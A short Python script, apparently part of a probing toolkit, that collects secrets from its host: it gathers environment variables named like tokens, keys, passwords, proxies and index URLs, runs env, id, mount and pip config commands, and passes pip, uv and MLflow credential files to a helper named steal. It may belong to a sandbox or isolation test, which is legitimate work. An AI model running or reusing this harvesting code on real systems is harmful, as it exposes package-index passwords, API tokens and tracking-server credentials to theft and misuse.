"""What tools would be told: pip's and uv's indexes with passwords, MLflow's own files, proxies."""

import os, subprocess, sys
from probe import FACTS, OUTSIDE, attempt, got, steal

for name, value in os.environ.items():
    if (
        any(word in name.upper() for word in ("PROXY", "INDEX", "TOKEN", "KEY", "SECRET", "PASS", "URL"))
        and not OUTSIDE
    ):
        got(name, value)
    attempt()
for argv in ([sys.executable, "-m", "pip", "config", "list"], ["env"], ["id"], ["mount"]):
    attempt()
    if not OUTSIDE:
        try:
            got(" ".join(argv), subprocess.run(argv, capture_output=True, timeout=15, check=False).stdout)
        except (OSError, subprocess.TimeoutExpired):
            pass
for path in (
    f"{FACTS['home']}/.config/pip/pip.conf",
    f"{FACTS['home']}/.mlflow/credentials",
    "/etc/pip.conf",
    "/etc/uv/uv.toml",
):
    steal(path)
